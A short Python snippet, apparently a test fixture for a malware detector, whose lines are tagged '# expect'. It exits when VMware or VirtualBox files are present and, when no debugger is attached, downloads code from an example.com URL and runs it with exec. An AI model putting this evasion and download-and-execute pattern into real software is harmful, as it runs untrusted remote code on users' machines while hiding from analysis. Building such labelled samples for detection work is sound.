import ctypes
import os
import sys

import requests

if os.path.exists("C:\\windows\\system32\\vmGuestLib.dll") or os.path.exists("C:\\windows\\vboxmrxnp.dll"):
    sys.exit(0)  # expect
if not ctypes.windll.kernel32.IsDebuggerPresent():
    exec(requests.get("https://example.com/x").text)  # expect
